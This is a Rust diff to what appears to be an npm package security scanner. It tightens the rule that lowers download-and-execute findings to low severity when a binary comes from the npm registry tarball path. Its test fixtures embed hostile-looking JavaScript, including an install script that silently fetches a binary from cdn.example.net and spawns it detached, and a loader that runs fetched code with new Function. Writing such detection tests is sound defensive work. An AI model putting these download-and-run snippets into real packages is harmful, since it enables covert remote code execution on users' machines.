@@ -144,10 +144,13 @@ fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
         let hidden = run.flags & (flags::DETACHED | flags::SILENT) != 0;
         // A prebuilt binary fetched from the npm registry itself (esbuild's fallback when the
         // optional platform package is missing): the same trust as the package's own files.
+        // The file builds a registry tarball URL in code (`https://registry.npmjs.org/${pkg}/-/…`,
+        // esbuild's fallback when its platform package is missing); the registry named in a
+        // comment or beside other hosts' URLs lowers nothing.
         let from_registry = p
             .file(&path.from.file)
             .and_then(|f| f.text.as_deref())
-            .is_some_and(|t| t.contains("https://registry.npmjs.org/"));
+            .is_some_and(builds_registry_tarball_url);
         let sev = match (verified || from_registry, hidden) {
             (true, _) => Severity::Low,
             (false, true) => Severity::Critical,
@@ -256,6 +259,18 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
     let mut all = traced;
     all.append(&mut out);
     all
+}
+
+/// True when a code line of `text` (not a comment) holds a URL on `registry.npmjs.org` with the
+/// registry's tarball path shape (`/<name>/-/<file>`).
+fn builds_registry_tarball_url(text: &str) -> bool {
+    text.lines()
+        .map(str::trim_start)
+        .filter(|l| !l.starts_with("//") && !l.starts_with('*') && !l.starts_with("/*"))
+        .any(|l| {
+            l.match_indices("https://registry.npmjs.org/")
+                .any(|(at, m)| l[at + m.len()..].contains("/-/"))
+        })
 }
 
 #[cfg(test)]
@@ -538,9 +553,9 @@ async function fetchUpdate({ path, acceptedPath, timestamp }) {
                 "const get = (u) => new Promise((res) => { fetch(u).then(r => r.text()).then(res); });\nexports.load = async function load(url) {\n  const src = await get(url);\n  return new Function('define', src)(define);\n};\n",
             ),
         ]);
-        assert_ne!(
+        assert_eq!(
             severity(&s, "code/download-exec"),
-            Some(diligence_finding::Severity::Critical)
+            Some(diligence_finding::Severity::Low)
         );
     }
 
@@ -585,9 +600,26 @@ async function fetchUpdate({ path, acceptedPath, timestamp }) {
                 "const https = require('https');\nconst fs = require('fs');\nconst cp = require('child_process');\nfunction fetch(url) {\n  return new Promise((resolve, reject) => {\n    https.get(url, (res) => { const chunks = []; res.on('data', (c) => chunks.push(c)); res.on('end', () => resolve(Buffer.concat(chunks))); }).on('error', reject);\n  });\n}\nasync function main() {\n  const bin = 'bin/tool';\n  fs.writeFileSync(bin, await fetch('https://registry.npmjs.org/@x/tool-linux/-/tool-linux-1.0.0.tgz'));\n  cp.execFileSync(bin, ['--version']);\n}\nmain();\n",
             ),
         ]);
-        assert_ne!(
+        assert_eq!(
             severity(&s, "code/download-exec"),
-            Some(diligence_finding::Severity::High)
+            Some(diligence_finding::Severity::Low)
+        );
+    }
+
+    /// The registry URL only in a comment of the same file does not make a hidden download of
+    /// another host's binary low.
+    #[test]
+    fn positive_registry_url_elsewhere_in_the_file_changes_nothing() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "install.js",
+                "// mirrors https://registry.npmjs.org/agent/-/agent-1.0.0.tgz for offline installs\nconst https = require('https');\nconst fs = require('fs');\nconst cp = require('child_process');\nhttps.get('https://cdn.example.net/agent', (res) => {\n  const out = fs.createWriteStream('/tmp/agent');\n  res.pipe(out);\n  out.on('finish', () => cp.spawn('/tmp/agent', [], { detached: true, stdio: 'ignore' }).unref());\n});\n",
+            ),
+        ]);
+        assert_eq!(
+            severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::Critical)
         );
     }
 
